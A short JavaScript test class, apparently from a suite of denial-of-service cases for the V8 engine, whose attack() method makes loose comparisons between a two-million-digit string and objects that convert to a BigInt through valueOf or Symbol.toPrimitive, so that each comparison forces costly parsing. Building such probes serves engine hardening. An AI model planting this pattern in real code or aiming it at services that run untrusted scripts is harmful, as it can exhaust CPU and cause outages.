// Threat: the BigInt arrives by an object's conversion, which V8 does
// inside `==` (hint default) and `<` (hint number), so that the compiler
// sees no BigInt: each comparison then parses two million digits.
class BigintLooselyEqualToLongTextThroughObjects {
  init() {}

  attack() {
    const s = '7'.repeat(2 ** 21);
    const byValue = { valueOf() { return 7n; } };
    const byHint = { [Symbol.toPrimitive](hint) { return hint === 'default' ? 7n : 0; } };
    let count = 0;
    for (let i = 0; i < 50; i++) {
      if (byValue == s) count++;
      if (s != byHint) count++;
    }
    return count;
  }
}

module.exports = BigintLooselyEqualToLongTextThroughObjects;
